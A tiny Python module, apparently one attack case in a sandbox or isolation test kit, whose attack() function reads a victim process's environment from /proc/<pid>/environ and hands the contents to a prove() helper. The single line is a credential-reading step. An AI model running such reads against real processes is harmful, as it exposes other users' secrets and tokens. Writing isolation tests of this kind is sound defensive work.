"""Reads the secret in another process's environment."""

from pathlib import Path

from kit import TARGETS, prove


def attack() -> None:
    prove(Path(f"/proc/{TARGETS['victim']}/environ").read_text())
